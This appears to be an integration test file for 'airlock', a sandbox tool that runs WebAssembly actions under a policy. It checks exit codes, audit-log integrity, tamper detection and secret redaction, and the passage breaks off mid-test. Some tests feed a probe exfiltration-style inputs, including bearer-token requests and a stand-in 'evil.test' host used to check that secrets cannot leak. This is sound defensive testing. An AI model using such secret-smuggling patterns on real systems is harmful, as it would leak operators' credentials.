//! The `airlock` binary as an operator runs it: real processes, real files,
//! exit codes and messages.

#![allow(clippy::unwrap_used)]

use airlock_test_artifacts::{HELLO, PROBE, SIGN_PAYLOAD, SLACK_NOTIFY};
use airlock_test_server::{Reply, Server, TestCa};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const AIRLOCK: &str = env!("CARGO_BIN_EXE_airlock");

fn airlock(dir: &Path, args: &[&str]) -> Output {
    Command::new(AIRLOCK)
        .args(args)
        .current_dir(dir)
        .env_remove("AIRLOCK_CONFIG")
        .env_remove("RUST_LOG")
        // Tests leave the user's cache alone; the cache's own test names one.
        .env("AIRLOCK_CACHE_DIR", "off")
        .output()
        .unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// The policy lines for action `name` at `path`: built in this repository,
/// so first-party, with no publisher signature.
fn pin(name: &str, path: &str) -> String {
    format!("[actions.{name}]\npath = {path:?}\nrequire_signature = false\n")
}

/// Approve the policy's action `name` with the real `airlock approve`.
fn approve(dir: &Path, name: &str) {
    let out = airlock(dir, &["approve", name, "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
}

/// A directory with `policy` and every action in it approved.
fn setup(policy: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("airlock.toml"), policy).unwrap();
    for line in policy.lines() {
        if let Some(name) = line
            .strip_prefix("[actions.")
            .and_then(|l| l.strip_suffix(']'))
        {
            approve(dir.path(), name);
        }
    }
    dir
}

fn probe_component(dir: &Path, manifest_caps: &str, limits: &str) -> PathBuf {
    let manifest = format!(
        "[action]\nname = \"probe\"\nversion = \"1.0.0\"\npublisher = \"t\"\n[capabilities]\n{manifest_caps}\n[limits]\n{limits}\n"
    );
    let bytes = airlock::rules::manifest::section::embed(&std::fs::read(PROBE).unwrap(), &manifest)
        .unwrap();
    let path = dir.join("probe.wasm");
    std::fs::write(&path, bytes).unwrap();
    path
}

#[test]
fn inspect_prints_the_same_digest_as_sha256sum() {
    let out = airlock(Path::new("."), &["inspect", HELLO]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let sha = Command::new("sha256sum").arg(HELLO).output().unwrap();
    let hex = text(&sha.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned();
    assert!(
        text(&out.stdout).contains(&format!("digest:    sha256:{hex}")),
        "{}",
        text(&out.stdout)
    );
    assert!(text(&out.stdout).contains("hello 0.1.0 by airlock-examples"));

    let json = airlock(Path::new("."), &["inspect", "--json", SIGN_PAYLOAD]);
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert!(
        v["imports"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i.as_str().unwrap().starts_with("airlock:action/secrets@"))
    );
    assert_eq!(v["manifest"]["capabilities"]["secrets"][0]["expose"], true);
}

#[test]
fn inspect_flags_imports_beyond_the_declaration() {
    let dir = tempfile::tempdir().unwrap();
    // The probe uses files, secrets, sockets and wasi:http but declares none.
    let path = probe_component(dir.path(), "", "");
    let out = airlock(dir.path(), &["inspect", path.to_str().unwrap()]);
    let stdout = text(&out.stdout);
    // What is granted nothing is one note, not a warning per interface.
    assert!(stdout.contains("\nflags:     none\nnotes:\n"), "{stdout}");
    let note = stdout
        .lines()
        .find(|l| l.starts_with("  - imports "))
        .unwrap_or_else(|| panic!("no note in:\n{stdout}"));
    assert!(
        note.contains("interfaces it is granted nothing of: all uses will be refused (")
            && note.ends_with(") [ungranted_imports]"),
        "{note}"
    );
    for interface in [
        "wasi:sockets/tcp,",
        "wasi:http/outgoing-handler,",
        "wasi:filesystem/preopens,",
        "airlock:action/secrets,",
        "airlock:action/config,",
    ] {
        assert!(note.contains(interface), "no {interface} in {note}");
    }

    // Declared capabilities leave their interfaces out of the note; the
    // declaration's own risks are warnings, each with its code.
    let path = probe_component(
        dir.path(),
        "network = [\"https://*.example.com\"]\n\
         files = [{ mount = \"out\", access = \"read-write\" }]\n\
         secrets = [{ name = \"TOKEN\", expose = true }]",
        "memory = \"256 MiB\"\ntimeout = \"5s\"",
    );
    let out = airlock(dir.path(), &["inspect", path.to_str().unwrap(), "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let flags: Vec<(&str, &str)> = v["flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["code"].as_str().unwrap(), f["severity"].as_str().unwrap()))
        .collect();
    assert_eq!(
        flags,
        [
            ("ungranted_imports", "info"),
            ("wildcard_host", "warning"),
            ("read_write_mount", "warning"),
            ("exposed_secret", "warning"),
            ("secret_without_audience", "warning"),
            ("raised_limit", "warning"),
        ],
        "{v}"
    );
    let note = v["flags"][0]["message"].as_str().unwrap();
    assert!(
        note.contains("wasi:sockets/")
            && note.contains("airlock:action/config")
            && !note.contains("wasi:http/")
            && !note.contains("wasi:filesystem/")
            && !note.contains("airlock:action/secrets"),
        "{note}"
    );
    assert_eq!(
        v["flags"][5]["message"],
        "limit memory is raised to 256 MiB, above the default 64 MiB"
    );
}

#[test]
fn run_prints_the_output_and_records_the_run() {
    let dir = setup(&pin("hello", HELLO));
    let out = airlock(
        dir.path(),
        &["run", "hello", "--input", r#"{"name": "Grace"}"#],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout).trim(),
        r#"{"greeting":"Hello, Grace!","vowels":2}"#
    );
    let verify = airlock(dir.path(), &["audit", "verify", "airlock-audit.jsonl"]);
    assert_eq!(verify.status.code(), Some(0));
    assert!(
        text(&verify.stdout).starts_with("ok: 3 records, chain intact")
            && text(&verify.stdout).contains("checkpoints: 1 checked, signed by airlock.local/"),
        "{}",
        text(&verify.stdout)
    );

    // By file, with the input from a file.
    std::fs::write(dir.path().join("in.json"), r#"{"name": "Lin"}"#).unwrap();
    let out = airlock(dir.path(), &["run", HELLO, "--input", "@in.json", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["output"]["greeting"], "Hello, Lin!");
    assert_eq!(
        (v["status"].as_str(), v["code"].as_str()),
        (Some("ok"), None)
    );

    // With the global flag before the command (the engine is then started
    // ahead as well, found past the flag).
    let out = airlock(dir.path(), &["-vv", "run", "hello", "--input", "@in.json"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout).trim(),
        r#"{"greeting":"Hello, Lin!","vowels":1}"#
    );
    assert!(
        text(&out.stderr).contains("the engine and linker were built ahead"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn exit_codes_tell_what_happened() {
    let dir = tempfile::tempdir().unwrap();
    let probe = probe_component(dir.path(), "", "memory = \"24 MiB\"\ntimeout = \"300ms\"");
    let mut policy = pin("probe", probe.to_str().unwrap());
    policy.push_str(&pin("hello", HELLO));
    std::fs::write(dir.path().join("airlock.toml"), &policy).unwrap();
    approve(dir.path(), "probe");
    approve(dir.path(), "hello");
    let code = |args: &[&str]| {
        let out = airlock(dir.path(), args);
        (out.status.code().unwrap(), text(&out.stderr))
    };

    assert_eq!(code(&["run", "hello", "--input", r#"{"name": "x"}"#]).0, 0);
    let (c, e) = code(&[
        "run",
        "probe",
        "--input",
        r#"{"op": "fail", "message": "nope"}"#,
    ]);
    assert_eq!((c, e.contains("the action failed: nope")), (1, true), "{e}");
    let (c, e) = code(&["run", "hello", "--input", "{not json"]);
    assert_eq!((c, e.contains("the input is not JSON")), (2, true), "{e}");
    assert_eq!(code(&["run"]).0, 2);
    let (c, e) = code(&["run", "unknown-action"]);
    assert_eq!(e.lines().count(), 1, "a refusal is one line: {e}");
    assert_eq!(
        (c, e.contains("unknown action `unknown-action`")),
        (3, true),
        "{e}"
    );
    let (c, e) = code(&["run", "probe", "--input", r#"{"op": "alloc", "mib": 256}"#]);
    assert_eq!(
        (c, e.contains("memory limit of 24 MiB exceeded")),
        (4, true),
        "{e}"
    );
    let (c, e) = code(&["run", "probe", "--input", r#"{"op": "spin"}"#]);
    assert_eq!(
        (c, e.contains("timeout of 300ms exceeded")),
        (4, true),
        "{e}"
    );

    // Modify the approved component: refused.
    let mut bytes = std::fs::read(&probe).unwrap();
    let n = bytes.len();
    bytes[n - 2] ^= 1;
    std::fs::write(&probe, bytes).unwrap();
    let (c, e) = code(&["run", "probe"]);
    assert_eq!(
        (c, e.contains("not the bytes that were vetted")),
        (3, true),
        "{e}"
    );

    // Audit log not a file (/dev/full): host fault, nothing runs.
    std::fs::write(
        dir.path().join("airlock.toml"),
        format!("{policy}\n[audit]\npath = \"/dev/full\"\n"),
    )
    .unwrap();
    let (c, e) = code(&["run", "hello", "--input", r#"{"name": "x"}"#]);
    assert_eq!((c, e.contains("audit unavailable")), (5, true), "{e}");
}

/// `airlock run --json` prints one outcome document for every ending; its
/// status and code say what happened, and the exit status agrees.
#[test]
fn run_json_reports_every_ending_with_a_stable_code() {
    let dir = tempfile::tempdir().unwrap();
    let probe = probe_component(
        dir.path(),
        "network = [\"http://127.0.0.1:9\"]",
        "memory = \"24 MiB\"\ntimeout = \"300ms\"\noutput = \"1 KiB\"",
    );
    let mut policy = pin("probe", probe.to_str().unwrap());
    policy.push_str(&pin("hello", HELLO));
    policy.push_str("[actions.ghost]\npath = \"ghost.wasm\"\n");
    std::fs::write(dir.path().join("airlock.toml"), &policy).unwrap();
    approve(dir.path(), "probe");
    approve(dir.path(), "hello");
    let report = |args: &[&str]| {
        let args = [args, &["--json"]].concat();
        let out = airlock(dir.path(), &args);
        let stdout = text(&out.stdout);
        let v: serde_json::Value = serde_json::from_str(&stdout)
            .unwrap_or_else(|e| panic!("{args:?}: not one JSON document ({e}): {stdout}"));
        (out.status.code().unwrap(), v, text(&out.stderr))
    };
    let op = |json: &str| ["run", "probe", "--input", json].map(str::to_owned);
    let cases: Vec<(Vec<String>, i32, &str, Option<&str>)> = vec![
        (
            op(r#"{"op": "fail", "message": "nope"}"#).into(),
            1,
            "action_error",
            Some("action_failed"),
        ),
        (
            op(r#"{"op": "alloc", "mib": 256}"#).into(),
            4,
            "limit",
            Some("memory"),
        ),
        (op(r#"{"op": "spin"}"#).into(), 4, "limit", Some("timeout")),
        (
            op(r#"{"op": "output", "bytes": 4096}"#).into(),
            4,
            "limit",
            Some("output"),
        ),
        (
            op(r#"{"op": "panic", "message": "boom"}"#).into(),
            4,
            "limit",
            Some("trap"),
        ),
        (op("{not json").into(), 2, "refused", Some("bad_input")),
        (op("@missing.json").into(), 2, "refused", Some("bad_input")),
        (
            vec!["run".into(), "unknown".into()],
            3,
            "refused",
            Some("unknown_action"),
        ),
        (
            vec!["run".into(), "ghost".into()],
            2,
            "refused",
            Some("bad_policy"),
        ),
        (
            vec![
                "run".into(),
                "hello".into(),
                "--config".into(),
                "nowhere.toml".into(),
            ],
            2,
            "refused",
            Some("bad_policy"),
        ),
    ];
    for (args, exit, status, code) in cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let (c, v, stderr) = report(&args);
        assert_eq!(
            (c, v["status"].as_str(), v["code"].as_str()),
            (exit, Some(status), code),
            "{args:?}: {v}\n{stderr}"
        );
        let message = v["message"].as_str().unwrap_or_default();
        assert!(
            !message.is_empty() && !message.contains('\n'),
            "{args:?}: {v}"
        );
        assert!(v["output"].is_null(), "{args:?}: {v}");
    }

    // A run that ended: its identity, its records in the log, its denials.
    let (c, v, _) = report(&[
        "run",
        "probe",
        "--input",
        r#"{"op": "many", "ops": [{"op": "http", "url": "http://127.0.0.2:9/"}, {"op": "output", "bytes": 2}]}"#,
    ]);
    assert_eq!(
        (c, v["status"].as_str(), v["code"].as_null()),
        (0, Some("ok"), Some(())),
        "{v}"
    );
    assert_eq!(
        (v["action"].as_str(), v["version"].as_str()),
        (Some("probe"), Some("1.0.0")),
        "{v}"
    );
    assert!(v["digest"].as_str().unwrap().starts_with("sha256:"), "{v}");
    assert!(v["output"].is_array(), "{v}");
    let denial = &v["denials"][0];
    assert_eq!(denial["event"], "net.request", "{v}");
    assert!(
        denial["target"].as_str().unwrap().contains("127.0.0.2"),
        "{v}"
    );
    let records = v["audit"]["records"].as_array().unwrap();
    let (first, last) = (records[0].as_u64().unwrap(), records[1].as_u64().unwrap());
    let log = read_records(&dir.path().join("airlock-audit.jsonl"));
    let run = v["run"].as_str().unwrap();
    let seqs: Vec<u64> = log
        .iter()
        .filter(|r| r["run"] == run)
        .map(|r| r["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(
        (seqs.first().copied(), seqs.last().copied()),
        (Some(first), Some(last)),
        "{v}"
    );

    // Refused before running: no run, the refusal's digest.
    let mut bytes = std::fs::read(&probe).unwrap();
    let n = bytes.len();
    bytes[n - 2] ^= 1;
    std::fs::write(&probe, bytes).unwrap();
    let (c, v, _) = report(&["run", "probe"]);
    assert_eq!((c, v["code"].as_str()), (3, Some("digest_mismatch")), "{v}");
    assert!(v["run"].is_null() && v["digest"].as_str().is_some(), "{v}");

    // The audit log cannot be used: a host fault, nothing ran.
    std::fs::write(
        dir.path().join("airlock.toml"),
        format!("{policy}\n[audit]\npath = \"/dev/full\"\n"),
    )
    .unwrap();
    let (c, v, _) = report(&["run", "hello", "--input", r#"{"name": "x"}"#]);
    assert_eq!(
        (c, v["status"].as_str(), v["code"].as_str()),
        (5, Some("host_fault"), Some("audit_unavailable")),
        "{v}"
    );
}

fn read_records(path: &Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn a_malformed_policy_is_one_clear_line_and_changes_nothing() {
    let dir = setup("[mounts.work]\npath = \"w\"\naccess = \"write\"\n");
    let out = airlock(dir.path(), &["run", "hello"]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = text(&out.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("airlock.toml line 3: mounts.work.access: unknown variant `write`"),
        "{stderr}"
    );
    assert!(
        !dir.path().join("airlock-audit.jsonl").exists(),
        "a bad policy writes nothing"
    );
}

#[test]
fn a_policy_or_lock_that_cannot_be_read_is_a_configuration_error() {
    let dir = setup("");
    for command in [&["run", "hello"][..], &["approve", "hello", "--yes"]] {
        let args = [command, &["--config", "elsewhere.toml"]].concat();
        let out = airlock(dir.path(), &args);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert_eq!(stderr.lines().count(), 1, "{stderr}");
        assert!(
            stderr.contains("elsewhere.toml: cannot be read: No such file")
                && stderr.contains("--config PATH or AIRLOCK_CONFIG"),
            "{stderr}"
        );
    }
    // A lock that is there but cannot be read (a directory, here).
    std::fs::remove_file(dir.path().join("airlock.lock")).ok();
    std::fs::create_dir(dir.path().join("airlock.lock")).unwrap();
    let out = airlock(dir.path(), &["run", "hello"]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("airlock.lock: cannot be read:"), "{stderr}");
    assert!(
        !dir.path().join("airlock-audit.jsonl").exists(),
        "nothing ran"
    );
}

#[test]
fn secrets_come_from_the_operators_environment() {
    let mut policy = pin("sign-payload", SIGN_PAYLOAD);
    policy.push_str("[secrets.WEBHOOK_SIGNING_KEY]\nenv = \"OPERATOR_SIGNING_KEY\"\n");
    let dir = setup(&policy);
    let run = |key: Option<&str>| {
        let mut cmd = Command::new(AIRLOCK);
        cmd.args(["run", "sign-payload", "--input", r#"{"body": "payload"}"#])
            .current_dir(dir.path())
            .env("AIRLOCK_CACHE_DIR", "off");
        match key {
            Some(k) => cmd.env("OPERATOR_SIGNING_KEY", k),
            None => cmd.env_remove("OPERATOR_SIGNING_KEY"),
        };
        cmd.output().unwrap()
    };
    let out = run(Some("operator-key-0123456789"));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("sha256="));
    let out = run(None);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains(
            "the policy's [secrets.WEBHOOK_SIGNING_KEY] reads it from environment variable \
             OPERATOR_SIGNING_KEY, which is not set; set it in airlock's environment"
        ),
        "{}",
        text(&out.stderr)
    );
    assert!(
        !std::fs::read_to_string(dir.path().join("airlock-audit.jsonl"))
            .unwrap()
            .contains("operator-key-0123456789")
    );
}

/// A secret whose policy entry names an environment variable that is unset
/// or empty is refused for that, at use (as a file source that cannot be
/// read is): never reported as missing from the policy, and an empty value
/// is never filled in. A secret the policy has no entry for is told apart.
#[test]
fn a_secret_whose_variable_is_unset_or_empty_is_refused_naming_the_variable() {
    const VALUE: &str = "gh-cli-value-0123456789";
    let server = Server::http(Reply::echo);
    let origin = format!("http://127.0.0.1:{}", server.port());
    let dir = tempfile::tempdir().unwrap();
    probe_component(
        dir.path(),
        &format!(
            "network = [\"{origin}\"]\nsecrets = [\
             {{ name = \"GH_TOKEN\", expose = true, send_to = [\"{origin}\"] }}, \
             {{ name = \"UNSOURCED\", expose = true, send_to = [\"{origin}\"] }}]"
        ),
        "",
    );
    let mut policy = pin("probe", "probe.wasm");
    policy.push_str("[secrets.GH_TOKEN]\nenv = \"CLI_GH_TOKEN\"\n");
    std::fs::write(dir.path().join("airlock.toml"), &policy).unwrap();
    approve(dir.path(), "probe");
    let bearer = |name: &str| {
        serde_json::json!({"op": "http", "url": format!("{origin}/"),
            "headers": [["authorization", format!("Bearer {{{{secret:{name}}}}}")]]})
    };
    let ops = serde_json::json!({"op": "many", "ops": [
        {"op": "secret", "name": "GH_TOKEN"},
        bearer("GH_TOKEN"),
        {"op": "secret", "name": "UNSOURCED"},
        bearer("UNSOURCED"),
    ]})
    .to_string();
    let run = |value: Option<&str>| {
        let mut cmd = Command::new(AIRLOCK);
        cmd.args(["run", "probe", "--input", &ops])
            .current_dir(dir.path())
            .env_remove("AIRLOCK_CONFIG")
            .env_remove("RUST_LOG")
            .env("AIRLOCK_CACHE_DIR", "off");
        match value {
            Some(v) => cmd.env("CLI_GH_TOKEN", v),
            None => cmd.env_remove("CLI_GH_TOKEN"),
        };
        let out = cmd.output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let output: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        (output, text(&out.stderr))
    };
    let unsourced = "secret `UNSOURCED` has no source: add [secrets.UNSOURCED] with env = \"VAR\" \
                     or file = \"path\" to the policy";

    for (value, cause) in [
        (None, "which is not set; set it in airlock's environment"),
        (
            Some(""),
            "which is empty; give it the secret's value (an empty value is never used)",
        ),
    ] {
        let why = format!(
            "secret `GH_TOKEN` is unavailable: the policy's [secrets.GH_TOKEN] reads it from \
             environment variable CLI_GH_TOKEN, {cause}"
        );
        let (out, stderr) = run(value);
        assert_eq!(out[0]["err"], why.as_str(), "{value:?}: {out}");
        assert!(
            stderr.contains(&format!("airlock: refused secret.read GH_TOKEN: {why}")),
            "{value:?}: {stderr}"
        );
        assert!(
            stderr.contains(&format!("airlock: refused net.request {origin}/: {why}")),
            "{value:?}: {stderr}"
        );
        assert!(!stderr.contains("add [secrets.GH_TOKEN]"), "{stderr}");
        assert!(stderr.contains(unsourced), "{stderr}");
        assert!(out[1]["err"].is_string(), "{out}");
        assert!(server.received().is_empty(), "a request left: `Bearer `?");

        let log = std::fs::read_to_string(dir.path().join("airlock-audit.jsonl")).unwrap();
        let denied: Vec<serde_json::Value> = log
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .filter(|r| r["decision"] == "deny" && r["reason"].as_str() == Some(why.as_str()))
            .collect();
        let events: Vec<&str> = denied
            .iter()
            .rev()
            .take(2)
            .map(|r| r["event"].as_str().unwrap())
            .collect();
        assert_eq!(events, ["net.request", "secret.read"], "{value:?}: {log}");
    }

    // Set, it is read and sent.
    let (out, stderr) = run(Some(VALUE));
    assert_eq!(
        out[0]["ok"], "[redacted:GH_TOKEN]",
        "read, and kept out of the output: {out}"
    );
    assert_eq!(out[1]["status"], 200, "{out}");
    assert!(stderr.contains(unsourced), "{stderr}");
    let got = server.received();
    assert_eq!(got.len(), 1);
    assert_eq!(
        got[0].header("authorization"),
        Some(format!("Bearer {VALUE}").as_str())
    );
    let log = std::fs::read_to_string(dir.path().join("airlock-audit.jsonl")).unwrap();
    assert!(!log.contains(VALUE), "the value is in the log");
}

/// Diagnostics written to a pipe or a file carry no ANSI colour codes: a
/// CI log or `2> errors.txt` reads as plain text. With a level from `-v`
/// and with a filter from `RUST_LOG`.
#[test]
fn diagnostics_off_a_terminal_have_no_colour_codes() {
    let dir = setup(&pin("hello", HELLO));
    for (flag, rust_log) in [("", None), ("-vv", None), ("", Some("airlock=debug"))] {
        // A first run generates the log's checkpoint key, and warns.
        for file in std::fs::read_dir(dir.path()).unwrap() {
            let path = file.unwrap().path();
            if path
                .file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("airlock-audit")
            {
                std::fs::remove_file(path).unwrap();
            }
        }
        let mut cmd = Command::new(AIRLOCK);
        cmd.args(["run", "hello", "--input", r#"{"name": "Ada"}"#])
            .args(Some(flag).filter(|f| !f.is_empty()))
            .current_dir(dir.path())
            .env_remove("AIRLOCK_CONFIG")
            .env_remove("NO_COLOR")
            .env("AIRLOCK_CACHE_DIR", "off");
        match rust_log {
            Some(filter) => cmd.env("RUST_LOG", filter),
            None => cmd.env_remove("RUST_LOG"),
        };
        let out = cmd.output().unwrap();
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{stderr}");
        assert!(
            stderr.contains("generated a checkpoint signing key"),
            "{flag} {rust_log:?}: {stderr}"
        );
        assert!(
            !stderr.contains('\u{1b}'),
            "{flag} {rust_log:?}: {stderr:?}"
        );
    }
}

#[test]
fn audit_verify_names_the_first_bad_record() {
    let dir = setup(&pin("hello", HELLO));
    for _ in 0..2 {
        airlock(dir.path(), &["run", "hello", "--input", r#"{"name": "x"}"#]);
    }
    let log = dir.path().join("airlock-audit.jsonl");
    let text_before = std::fs::read_to_string(&log).unwrap();
    // Edit the second record (the first run's log line).
    std::fs::write(&log, text_before.replacen("characters", "charactres", 1)).unwrap();
    let out = airlock(dir.path(), &["audit", "verify", "airlock-audit.jsonl"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stdout).starts_with("FAILED: CHAIN_BREAK at seq 2 (airlock-audit.jsonl line 3)"),
        "{}",
        text(&out.stdout)
    );
}

#[test]
fn help_documents_the_exit_codes() {
    let out = airlock(Path::new("."), &["--help"]);
    let help = text(&out.stdout);
    for line in [
        "0  success",
        "3  refused before running",
        "4  a limit was exceeded",
    ] {
        assert!(help.contains(line), "{help}");
    }
}

#[test]
fn the_embedding_example_runs() {
    // `cargo test` builds the examples next to the test binaries.
    let mut exe = std::env::current_exe().unwrap();
    exe.pop();
    if exe.ends_with("deps") {
        exe.pop();
    }
    let example = exe.join("examples").join("pipeline");
    assert!(
        example.exists(),
        "{} is missing: run `cargo test`, which builds examples",
        example.display()
    );
    let out = Command::new(&example).output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(stdout.contains("1. file-digest: 2 files"), "{stdout}");
    assert_eq!(stdout.matches("2. sign-payload:").count(), 2, "{stdout}");
    assert!(
        stdout.contains("3. hello: \"Hello, 2 signed release files!\""),
        "{stdout}"
    );
    assert!(stdout.contains("chain intact"), "{stdout}");
}

#[test]
fn run_slack_notify_posts_to_a_local_webhook_and_the_log_shows_it() {
    let secret_path = "T0001/B0002/cli-webhook-secret-77aa";
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let slack = Server::https(&ca, &["hooks.slack.com"], |_| Reply::ok("ok"));
    let policy = |allow_private: &str| {
        format!(
            "{}[secrets.SLACK_WEBHOOK_PATH]\nenv = \"SLACK_PATH\"\n\
             [network]\nca_certs = [{:?}]\nallow_private = [{allow_private}]\n\
             [network.hosts]\n\"hooks.slack.com\" = [\"{}\"]\n",
            pin("slack-notify", SLACK_NOTIFY),
            ca.pem_file().display().to_string(),
            slack.addr()
        )
    };
    std::fs::write(dir.path().join("airlock.toml"), policy("\"127.0.0.1\"")).unwrap();
    approve(dir.path(), "slack-notify");
    let run = || {
        Command::new(AIRLOCK)
            .args([
                "run",
                "slack-notify",
                "--input",
                r#"{"text": "Release 2.0 is out"}"#,
            ])
            .current_dir(dir.path())
            .env("SLACK_PATH", secret_path)
            .env_remove("AIRLOCK_CONFIG")
            .env("AIRLOCK_CACHE_DIR", "off")
            .output()
            .unwrap()
    };
    let out = run();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout).trim(), r#"{"status":200}"#);
    let got = slack.received();
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].target, format!("/services/{secret_path}"));
    assert!(got[0].text().contains("Release 2.0 is out"));

    let log = std::fs::read_to_string(dir.path().join("airlock-audit.jsonl")).unwrap();
    assert!(!log.contains(secret_path), "the secret is not in the log");
    let request: serde_json::Value = log
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|r| r["event"] == "net.request" && r["phase"] == "result")
        .unwrap();
    assert_eq!(request["decision"], "allow");
    assert_eq!(request["method"], "POST");
    assert_eq!(request["host"], "hooks.slack.com");
    assert_eq!(request["status"], 200);
    assert_eq!(
        request["secrets"],
        serde_json::json!(["SLACK_WEBHOOK_PATH"])
    );
    let verify = airlock(dir.path(), &["audit", "verify", "airlock-audit.jsonl"]);
    assert_eq!(verify.status.code(), Some(0), "{}", text(&verify.stdout));

    // Without the operator naming 127.0.0.1, the run says what was refused
    // and what would allow it, and nothing is posted.
    std::fs::write(dir.path().join("airlock.toml"), policy("")).unwrap();
    let out = run();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("airlock: refused net.request https://hooks.slack.com:443/services/{{secret:SLACK_WEBHOOK_PATH}}: hooks.slack.com resolves to 127.0.0.1, a loopback address")
            && stderr.contains("allow_private = [\"127.0.0.1\"]"),
        "{stderr}"
    );
    assert_eq!(slack.received().len(), 1);
}

#[test]
fn a_reader_that_stops_early_ends_the_command_quietly() {
    // `airlock inspect … | head -0`: the reader is gone before the first
    // line is written. (Closed before the child starts, not after: a child
    // quick enough to write everything first would otherwise exit 0.)
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let out = Command::new(AIRLOCK)
        .args(["inspect", HELLO])
        .env("AIRLOCK_CACHE_DIR", "off")
        .stdout(writer)
        .stderr(std::process::Stdio::piped())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(141),
        "like a program killed by SIGPIPE"
    );
    assert_eq!(text(&out.stderr), "", "no panic message");
}

#[test]
fn a_second_run_loads_the_compiled_component_and_a_tampered_copy_is_recompiled() {
    let dir = setup(&pin("hello", HELLO));
    let cache = dir.path().join("cache");
    let run = || {
        let out = Command::new(AIRLOCK)
            .args(["run", "hello", "--input", r#"{"name": "Ada"}"#])
            .current_dir(dir.path())
            .env("AIRLOCK_CACHE_DIR", &cache)
            .env("RUST_LOG", "airlock=warn")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        assert_eq!(
            text(&out.stdout).trim(),
            r#"{"greeting":"Hello, Ada!","vowels":2}"#
        );
        text(&out.stderr)
    };
    let cached = || {
        let files: Vec<PathBuf> = std::fs::read_dir(&cache)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert_eq!(files.len(), 1, "{files:?}");
        files.into_iter().next().unwrap()
    };

    run();
    let file = cached();
    let digest = text(&airlock(dir.path(), &["inspect", HELLO]).stdout);
    let name = file.file_name().unwrap().to_string_lossy().into_owned();
    assert!(
        digest.contains(&format!("sha256:{}", &name[..64])),
        "the cache file {name} is named after the component's digest"
    );
    let sound = std::fs::read(&file).unwrap();
    assert!(run().is_empty(), "a sound copy loads without a word");

    // One flipped bit of machine code: refused, recompiled, replaced.
    let mut tampered = sound.clone();
    let last = tampered.len() - 1;
    tampered[last] ^= 1;
    std::fs::write(&file, &tampered).unwrap();
    let stderr = run();
    assert!(stderr.contains("recompiling"), "{stderr}");
    assert_eq!(std::fs::read(cached()).unwrap(), sound);
}

#[test]
fn a_cache_directory_others_can_write_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let dir = setup(&pin("hello", HELLO));
    let cache = dir.path().join("cache");
    std::fs::create_dir(&cache).unwrap();
    std::fs::set_permissions(&cache, std::fs::Permissions::from_mode(0o777)).unwrap();
    let out = Command::new(AIRLOCK)
        .args(["run", "hello"])
        .current_dir(dir.path())
        .env("AIRLOCK_CACHE_DIR", &cache)
        .output()
        .unwrap();
    let stderr = text(&out.stderr);
    assert_ne!(out.status.code(), Some(0));
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("writable by group or others") && stderr.contains("--no-cache"),
        "{stderr}"
    );
    // --no-cache runs without it.
    let out = airlock(
        dir.path(),
        &[
            "run",
            "hello",
            "--no-cache",
            "--input",
            r#"{"name": "Ada"}"#,
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
}

/// What `airlock run` prints — refusals, errors, output, in both forms —
/// carries no form of a secret's value, though the action put it into a
/// host name, a log line, a request and its error in several encodings.
#[test]
fn no_secret_value_reaches_stdout_or_stderr() {
    const VALUE: &str = "CliSecret99Value";
    let dir = tempfile::tempdir().unwrap();
    probe_component(
        dir.path(),
        "network = [\"http://*.evil.test\"]\nsecrets = [{ name = \"LABEL\", expose = true, send_to = [\"https://audience.test\"] }]",
        "",
    );
    let mut policy = pin("probe", "probe.wasm");
